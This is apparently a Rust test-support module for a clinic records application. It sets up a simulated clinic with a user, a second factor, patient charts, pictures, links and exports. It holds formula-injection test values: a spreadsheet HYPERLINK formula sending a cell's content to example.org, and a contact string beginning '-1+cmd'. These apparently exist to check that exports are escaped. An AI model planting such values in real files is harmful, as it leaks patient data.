//! A clinic in a folder of its own, with charts, a picture, a user who signs in, a link and kept knowledge; and time that
//! stands still until it is moved.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicI64, AtomicU64, Ordering};

use data_encoding::BASE32_NOPAD;
use image::codecs::png::{CompressionType, FilterType, PngEncoder};
use jiff::Timestamp;
use jiff::civil::date;
use resurface_care::chart::*;
use resurface_care::consultation::*;
use resurface_knowledge::settings::Settings;
use resurface_knowledge::{Files, Knowledge, Version};
use resurface_ledger::access::{Actor, Role};
use resurface_ledger::clinic::{Charts, Clinic, Founding, LedgerError, LostFactor, NewUser, OpenChart, Progress, Proof};
use resurface_ledger::identity::{LinkPurpose, PatientId, Token, TotpSecret};
use resurface_ledger::seal::Secret;
use resurface_ledger::surroundings::Surroundings;
use sha2::{Digest as _, Sha256};
use zeroize::Zeroizing;

pub(crate) const PASSWORD: &str = "rolling boxcar lamp post";
pub(crate) const NAME: &str = "Wilhelmina Plantagenet";
pub(crate) const FORMULA: &str = "=HYPERLINK(\"https://example.org/\"&A1,\"x\")";
pub(crate) const TODAY: jiff::civil::Date = date(2026, 11, 20);

/// Time that is moved by hand, and chance that is counted.
pub(crate) struct Around {
    now: AtomicI64,
    drawn: AtomicU64,
}

impl Around {
    pub(crate) fn seeded(seed: u64) -> Arc<Self> {
        Arc::new(Self { now: AtomicI64::new(1_795_168_800_000_123), drawn: AtomicU64::new(seed << 32) })
    }

    pub(crate) fn wait(&self, seconds: i64) {
        self.now.fetch_add(seconds * 1_000_000, Ordering::Relaxed);
    }
}

impl Surroundings for Around {
    fn now(&self) -> Timestamp {
        Timestamp::from_microsecond(self.now.fetch_add(7, Ordering::Relaxed)).unwrap()
    }

    fn fill(&self, bytes: &mut [u8]) {
        for chunk in bytes.chunks_mut(32) {
            let drawn = self.drawn.fetch_add(1, Ordering::Relaxed);
            chunk.copy_from_slice(&Sha256::digest(drawn.to_be_bytes())[..chunk.len()]);
        }
    }
}

/// A clinic, and what must never leave it.
pub(crate) struct House {
    pub(crate) around: Arc<Around>,
    pub(crate) clinic: Clinic,
    pub(crate) token: Token,
    pub(crate) totp: TotpSecret,
    pub(crate) patients: Vec<PatientId>,
    /// Everything that somebody signs in with, as it is shown to them.
    pub(crate) secrets: Vec<String>,
}

pub(crate) fn key() -> Secret {
    Secret::KeyFile(Zeroizing::new([7; 32]))
}

/// An empty place for a test; what an earlier run left is removed.
pub(crate) fn place(name: &str) -> PathBuf {
    let place = Path::new(env!("CARGO_TARGET_TMPDIR")).join("ways").join(name);
    let _ = fs::remove_dir_all(&place);
    fs::create_dir_all(&place).unwrap();
    place
}

pub(crate) fn silent() -> impl FnMut(Progress) {
    |_| {}
}

pub(crate) fn settings() -> Settings {
    Knowledge::built_in().unwrap().settings
}

/// A new clinic in `PLACE/clinic` without users or charts.
pub(crate) fn an_empty_clinic(place: &Path, charts: Charts) -> (Arc<Around>, Clinic) {
    let around = Around::seeded(1);
    let founding = Founding { name: "Clinic by the river".to_owned(), charts };
    let clinic = Clinic::found(&place.join("clinic"), &founding, &key(), around.clone()).unwrap();
    (around, clinic)
}

/// Adds a user who leads and treats, and signs them in.
pub(crate) fn with_a_lead(clinic: &Clinic) -> Token {
    let new = NewUser {
        name: "amal".parse().unwrap(),
        display_name: "Dr Amal Osei".parse().unwrap(),
        roles: BTreeSet::from([Role::Lead, Role::Prescriber]),
        operator: None,
        password: PASSWORD,
    };
    clinic.desk(Actor::at_the_console()).add_user(new).unwrap();
    clinic.sign_in("amal", Proof { password: PASSWORD, code: None }).unwrap()
}

/// Gives the lead of an imported clinic a password, and signs them in.
pub(crate) fn the_lead_again(clinic: &Clinic) -> Token {
    clinic.desk(Actor::at_the_console()).reset_password("amal", PASSWORD, LostFactor::Lost).unwrap();
    clinic.sign_in("amal", Proof { password: PASSWORD, code: None }).unwrap()
}

/// The knowledge that the clinic keeps: two short files, and their version.
pub(crate) fn kept_knowledge() -> Knowledge {
    let files = Files::from_iter([("a.toml", "one = 1"), ("guide/b.md", "two\r\n")]);
    let mut knowledge = Knowledge::built_in().unwrap();
    (knowledge.version, knowledge.files) = (Version::of(&files), files);
    knowledge
}

/// A clinic in `PLACE/clinic` with one user, two charts of which one is full, a link, and kept knowledge.
pub(crate) fn a_clinic(place: &Path) -> House {
    let (around, clinic) = an_empty_clinic(place, Charts::Real);
    let first = with_a_lead(&clinic);
    let factor = clinic.desk_of(&first).unwrap().new_second_factor().unwrap();
    let code = factor.secret.code_at(around.now());
    clinic.desk_of(&first).unwrap().confirm_second_factor(&factor, &code).unwrap();
    let mut secrets = vec![PASSWORD.to_owned(), BASE32_NOPAD.encode(factor.secret.expose()), first.text().to_string()];
    secrets.extend(factor.recovery.iter().map(|code| code.text().to_owned()));

    clinic.keep_knowledge(&kept_knowledge()).unwrap();
    let desk = clinic.desk_of(&first).unwrap();
    let full = a_full_chart(&desk, &around);
    let plain = desk.register(a_person("2", "+Plus Minus")).unwrap().patient;
    let (_, link) = desk.make_link(full, LinkPurpose::Intake, None).unwrap();
    secrets.push(link.text().to_string());
    House { around, clinic, token: first, totp: factor.secret, patients: vec![full, plain], secrets }
}

pub(crate) fn a_person(number: &str, name: &str) -> Registered {
    Registered {
        on: TODAY,
        number: number.to_owned(),
        name: name.to_owned(),
        birth_date: date(1996, 3, 2),
        sex: Sex::Female,
        contact: Some("-1+cmd, \"quoted\"\nsecond line".to_owned()),
        synthetic: false,
    }
}

pub(crate) fn a_message(text: &str) -> Body {
    Body::Message(Message { on: TODAY, from: Penned::Clinic, text: text.to_owned() })
}

/// A small picture; another one for every shade.
pub(crate) fn a_picture(shade: u8) -> Vec<u8> {
    let mut bytes = Vec::new();
    // Not compressed, so that the file as it was handed in is not the file that is written anew.
    let encoder = PngEncoder::new_with_quality(&mut bytes, CompressionType::Uncompressed, FilterType::NoFilter);
    image::RgbImage::from_pixel(40, 30, image::Rgb([shade, 90, 80])).write_with_encoder(encoder).unwrap();
    bytes
}

fn a_full_chart(desk: &resurface_ledger::clinic::Desk<'_>, around: &Around) -> PatientId {
    let add = |open: &OpenChart, body: Body| {
        around.wait(60);
        desk.add(open.clone(), vec![(desk.entry_id(), body)]).unwrap().open
    };
    let open = desk.register(a_person("1", NAME)).unwrap();
    let purposes = BTreeSet::from([Purpose::Treatment, Purpose::PicturesForCare]);
    let drawn = Drawn::try_from("M12 30L14 33".to_owned()).ok();
    let signature = Some(Signature { name: NAME.to_owned(), drawn });
    let open = add(&open, Body::Consented(Consented { on: TODAY, purposes, document: None, discussion: None, signature }));
    let open = desk.take_picture(open.clone(), desk.entry_id(), &a_picture(200), TODAY, View::Front, None).unwrap().open;
    let goal = Goal { improvement_percent: 33.3, by: None, worry: Some(6) };
    let intake = Intake {
        on: TODAY,
        pregnant: Answer::No,
        breast_feeding: Answer::Unknown,
        findings: BTreeMap::new(),
        earlier_treatments: Vec::new(),
        goal,
        answered_by: Penned::Patient,
    };
    let open = add(&open, Body::Intake(intake));
    let zone =
        |zone: &str| ZoneDose { zone: zone.to_owned(), depth_um: 1500, passes: Some(5), endpoint: Some(Endpoint::ErythemaOnly) };
    let lot = Some("ab 12".to_owned());
    let cartridge = Cartridge {
        udi: Some("(01)09506000134352(10)ab 12".to_owned()),
        lot,
        expires: None,
        sterile_pack_intact: Answer::Yes,
        used_before: Answer::No,
    };
    let gel = ProductUsed { name: "Gel".to_owned(), lot: Some("g 7".to_owned()) };
    let session = SessionDelivered {
        on: TODAY,
        zones: vec![zone("cheek_left"), zone("cheek_right")],
        device: "skinpen_precision".to_owned(),
        operator: "Dr Amal Osei".to_owned(),
        cartridge: Some(cartridge),
        anaesthetic: None,
        products: vec![gel],
        note: Some("calm".to_owned()),
        gate: None,
    };
    let open = add(&open, Body::SessionDelivered(session));
    let outcome = OutcomeMeasured {
        date: TODAY,
        scale: OutcomeScale::ImprovementPercent,
        value: -12.5,
        rater: Rater::Blinded,
        error_sd: Some(0.1),
    };
    let open = add(&open, Body::Measured(Measured::outcome(outcome)));
    let event = AdverseEventNoticed {
        on: TODAY,
        event: None,
        severity: Severity::Mild,
        session: Some(TODAY),
        reported_by: ReportedBy::Patient,
        text: FORMULA.to_owned(),
    };
    let open = add(&open, Body::AdverseEvent(event));
    let noticed = open.entries.last().unwrap().id;
    let followed = AdverseEventFollowed { on: TODAY, event: noticed, resolved: true, text: "gone".to_owned() };
    let open = add(&open, Body::AdverseEventFollowed(followed));
    let open = add(&open, a_message("come at nine"));
    let message = open.entries.last().unwrap().id;
    let becomes = Some(Box::new(a_message("come at ten")));
    add(&open, Body::Amended(Amended { on: TODAY, entry: message, reason: "a slip".to_owned(), becomes })).patient
}

impl House {
    /// The user signs in to a clinic that was restored.
    pub(crate) fn sign_in_to(&self, clinic: &Clinic) -> Token {
        self.around.wait(60);
        let code = self.totp.code_at(self.around.now());
        clinic.sign_in("amal", Proof { password: PASSWORD, code: Some(&code) }).unwrap()
    }

    /// The user steps up, as an export asks for.
    pub(crate) fn step_up(&self, clinic: &Clinic, token: &Token) {
        self.around.wait(60);
        let code = self.totp.code_at(self.around.now());
        clinic.step_up(token, Proof { password: PASSWORD, code: Some(&code) }).unwrap();
    }

    /// Backs the clinic up from the console.
    pub(crate) fn backup(&self, file: &Path) -> resurface_ledger::clinic::BackedUp {
        self.clinic.desk(Actor::at_the_console()).backup(file, &mut silent()).unwrap()
    }

    /// Exports the clinic, after the user has stepped up.
    pub(crate) fn export(&self, folder: &Path) -> resurface_ledger::clinic::Exported {
        self.step_up(&self.clinic, &self.token);
        export(&self.clinic, &self.token, folder).unwrap()
    }

    /// Everything in a chart.
    pub(crate) fn chart(&self, patient: PatientId) -> OpenChart {
        chart(&self.clinic, &self.token, patient)
    }
}

pub(crate) fn chart(clinic: &Clinic, token: &Token, patient: PatientId) -> OpenChart {
    clinic.desk_of(token).unwrap().open_chart(patient).unwrap()
}

pub(crate) fn export(clinic: &Clinic, token: &Token, folder: &Path) -> Result<resurface_ledger::clinic::Exported, LedgerError> {
    clinic.desk_of(token).unwrap().export(folder, &settings(), &mut silent())
}

/// Every file below a folder, by its name from there.
pub(crate) fn files_in(folder: &Path) -> BTreeMap<String, Vec<u8>> {
    let mut files = BTreeMap::new();
    let mut folders = vec![folder.to_owned()];
    while let Some(next) = folders.pop() {
        for entry in fs::read_dir(&next).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else {
                files.insert(path.strip_prefix(folder).unwrap().display().to_string(), fs::read(&path).unwrap());
            }
        }
    }
    files
}

/// Whether bytes hold a text.
pub(crate) fn holds(bytes: &[u8], text: &str) -> bool {
    bytes.windows(text.len()).any(|window| window == text.as_bytes())
}

/// That nothing is left of a folder that was refused.
pub(crate) fn nothing_is_left(folder: &Path) {
    let parent = folder.parent().unwrap();
    let name = folder.file_name().unwrap().to_str().unwrap();
    let left = fs::read_dir(parent).unwrap().map(|entry| entry.unwrap().file_name().to_str().unwrap().to_owned());
    let left: Vec<String> = left.filter(|found| found.starts_with(name)).collect();
    assert!(left.is_empty(), "{left:?}");
}
